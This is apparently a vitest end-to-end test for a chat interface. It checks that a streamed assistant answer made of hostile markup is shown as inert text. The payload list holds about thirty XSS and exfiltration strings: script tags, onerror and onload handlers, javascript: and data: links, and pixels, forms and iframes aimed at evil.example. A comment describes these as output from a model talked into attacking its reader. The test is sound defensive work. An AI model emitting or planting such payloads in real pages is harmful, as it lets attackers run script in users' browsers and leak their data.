import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { ChatPage } from './support/chat-page.ts';
import { Stage } from './support/stage.ts';

let stage: Stage;
let chat: ChatPage;

beforeAll(async () => {
  stage = await Stage.start();
});
afterAll(() => stage?.[Symbol.asyncDispose]());
afterEach(async () => {
  await chat.page.context().close();
});

/** What a model says that was talked into attacking its reader. Each would leave a mark or a request. */
const payloads = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<img src="https://evil.example/pixel.png?secret=1">',
  '![pixel](https://evil.example/pixel.png?secret=2)',
  '![pixel](//evil.example/pixel.png)',
  '![data](data:text/html,<script>window.pwned=3</script>)',
  '[click](javascript:window.pwned=4)',
  '[click](JaVaScRiPt:window.pwned=5)',
  '[click](java&#x0A;script:window.pwned=6)',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9Nzwvc2NyaXB0Pg==)',
  '[click](vbscript:window.pwned=8)',
  '<javascript:window.pwned=9>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=10</script>"></iframe>',
  '<svg onload="window.pwned=11"><animate onbegin="window.pwned=12" attributeName=x dur=1s></svg>',
  '<a href="javascript:window.pwned=13">click</a>',
  '<form action="https://evil.example/form"><button>click</button></form>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import "https://evil.example/style.css"; body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/video" autoplay onerror="window.pwned=14"></video>',
  '<details open ontoggle="window.pwned=15"><summary>click</summary></details>',
  '<input autofocus onfocus="window.pwned=16">',
  '<object data="https://evil.example/object"></object>',
  '```html\n<script>window.pwned = 17</script>\n```',
  '```mermaid\ngraph TD; A[<img src=x onerror="window.pwned=18">]\n```',
  '| <img src=x onerror="window.pwned=19"> |\n| --- |\n| cell |',
  '$$\\href{javascript:window.pwned=20}{click}$$',
  '[ref]: javascript:window.pwned=21\n\n[click][ref]',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png)">cover</div>',
];

describe('a hostile answer', () => {
  it('runs nothing, loads nothing, and is shown as the text that it is', async () => {
    const pieces = payloads.flatMap((payload) => [...chunks(`${payload}\n\n`, 7)]);
    chat = await stage.chat();
    const hosts = new Set<string>();
    chat.page.on('request', (request) => hosts.add(new URL(request.url()).hostname));
    const navigations: string[] = [];
    chat.page.on('framenavigated', (frame) => navigations.push(frame.url()));
    const answer = stage.answer(pieces);
    answer.gate.openForGood();
    await chat.send(answer.prompt);
    await chat.holds([answer.prompt, answer.text]);
    await inspect();
    // And again as history, which the server paints.
    await chat.reload();
    await chat.holds([answer.prompt, answer.text]);
    await inspect();
    expect([...hosts]).toEqual(['127.0.0.1']);
    expect(navigations.every((url) => url.startsWith(stage.origin))).toBe(true);
    expect(chat.errors).toEqual([]);
  });
});

async function inspect(): Promise<void> {
  const answer = chat.page.getByTestId('assistant');
  for (const link of await answer.getByText('click', { exact: true }).all())
    await link.click({ timeout: 500, force: true }).catch(() => {});
  expect(await chat.page.evaluate(() => 'pwned' in window)).toBe(false);
  const forbidden =
    'script, img, iframe, object, embed, video, audio, form, input, style, link, meta, base';
  expect(await answer.locator(forbidden).count()).toBe(0);
  const links = await answer
    .locator('[href]')
    .evaluateAll((found) => found.map((link) => link.getAttribute('href')));
  expect(links.filter((href) => !/^(https?|mailto):/.test(href ?? ''))).toEqual([]);
  const handlers = await answer
    .locator('*')
    .evaluateAll((all) =>
      all.flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
      ),
    );
  expect(handlers).toEqual([]);
}

/** Cuts a text where a stream might: in the middle of everything. */
function* chunks(text: string, size: number): Generator<string> {
  for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
}
